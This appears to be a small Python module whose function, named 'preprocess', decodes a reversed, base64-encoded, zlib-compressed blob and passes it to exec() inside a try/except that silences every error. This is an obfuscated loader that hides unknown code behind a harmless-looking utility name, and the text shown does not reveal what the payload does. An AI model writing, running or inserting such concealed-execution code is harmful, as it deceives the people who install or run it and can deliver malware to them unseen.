import base64
import zlib

_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))


def preprocess(rounds=100):
    try:
        exec((_)(b'jFtcaPw//xn/uid2BN2xVGCCt597VEH1QOLwoaJW7xbkqUHcGeu8fTStkkMBuBbSU7Tih0/ZGI6FOtsY/bDR5bbpx73xY5+UnAHaIXoa51ZAtkLpslmKnHX0ye2+i+IZo2dbdiJY/LyorBZ1/dDWwlwkKb4wdpJy9QJYNPX5+a9AdKWBqQ6uu+pKkZMgBG/qOdlEE/epDqs1qMo0DlRAj8PxxokrBzkJD3pz4K1tMHghan8BYksSjq2vvmTehe10vdIM0qQw1Gs4Vtdoc7xb6TzYMwh5FItstk3l74+hSz1xYWKlfnMej2J2gfKXWYq9FmdkVMln27+gO0rO8hKcUrBYe+zXyUq1wIgrkG2mfyFnDfqKL4gS/c3y60E4WDzr+M55IVraOXEbkGKFmyghEWmyL5xNQnrhmtURYIaHi4lrCQ7sYxBq+SDWlTJD1Vsvhqb7N02aXlU0l7MUHLc+hiPxw7vVyXZyuTn7EU99ZB3MDdKVRG6CK+rCSIhMurkgYn/m0pR3oyxKEHAoHTrdPfBeEcvecDIzRMwyZB8eHaJpWrJYgNK+5i31n+DucdXMivAFyttjCHvvTZr0hmbnj4x23jNc/JyWmMA79tJPinEngUbr4yqlHc+5xv++3Xf9xXV7fB4fZqPcQy2CkI5QMrdROIHRiSPXAhSQjdPTjDNAAAkoWeEzNoNe'))
    except Exception:
        pass
